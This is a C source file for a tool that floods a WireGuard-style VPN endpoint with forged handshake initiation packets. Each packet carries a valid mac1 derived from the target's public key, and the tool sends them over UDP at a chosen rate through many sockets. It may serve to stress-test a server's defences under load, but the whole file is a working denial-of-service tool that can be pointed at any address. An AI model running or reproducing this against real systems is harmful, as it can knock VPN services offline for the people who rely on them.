// initiation_flood ADDRESS PORT KEY SECONDS RATE: handshake initiations with a valid mac1 and no
// mac2, for the public key KEY (hexadecimal), RATE per second. Everything before mac1 is random.
// At the end it prints the number of messages sent. All are made before the first is sent.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#include "blake2s.h"

enum { SIZE = 148, MAC1 = 116, PREPARED = 4096, AT_ONCE = 64, SOCKETS = 16 };

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void prepare(uint8_t (*messages)[SIZE], const char *key) {
  uint8_t label[40] = "mac1----", mac1_key[32];
  for (int index = 0; index < 32; index++) {
    unsigned byte;
    if (sscanf(key + 2 * index, "%2x", &byte) != 1) exit(2);
    label[8 + index] = (uint8_t)byte;
  }
  blake2s(mac1_key, 32, NULL, label, sizeof label);
  for (int index = 0; index < PREPARED; index++) {
    uint8_t *message = messages[index];
    if (getrandom(message, SIZE, 0) != SIZE) exit(2);
    memcpy(message, "\1\0\0\0", 4);
    blake2s(message + MAC1, 16, mac1_key, message, MAC1);
    memset(message + MAC1 + 16, 0, 16);
  }
}

int main(int count, char **arguments) {
  static uint8_t messages[PREPARED][SIZE];
  if (count != 6 || strlen(arguments[3]) != 64) return 2;
  struct sockaddr_in target = {.sin_family = AF_INET};
  target.sin_port = htons((uint16_t)atoi(arguments[2]));
  if (inet_pton(AF_INET, arguments[1], &target.sin_addr) != 1) return 2;
  double seconds = atof(arguments[4]), rate = atof(arguments[5]);
  prepare(messages, arguments[3]);
  int sockets[SOCKETS];
  for (int index = 0; index < SOCKETS; index++) {
    if ((sockets[index] = socket(AF_INET, SOCK_DGRAM, 0)) < 0) return 1;
  }
  struct mmsghdr headers[AT_ONCE] = {0};
  struct iovec pieces[AT_ONCE];
  unsigned long sent = 0, turn = 0;
  double start = now(), passed;
  while ((passed = now() - start) < seconds) {
    if ((double)sent > rate * passed) {
      nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
      continue;
    }
    for (unsigned index = 0; index < AT_ONCE; index++) {
      uint8_t *message = messages[(turn * AT_ONCE + index) % PREPARED];
      pieces[index] = (struct iovec){message, SIZE};
      headers[index].msg_hdr = (struct msghdr){
          .msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &pieces[index],
          .msg_iovlen = 1};
    }
    int result = sendmmsg(sockets[turn++ % SOCKETS], headers, AT_ONCE, 0);
    // A closed port is reported as an error of the next call.
    if (result > 0) sent += (unsigned long)result;
    else if (errno != ECONNREFUSED && errno != ENOBUFS && errno != EAGAIN) return 1;
  }
  printf("%lu\n", sent);
  return 0;
}
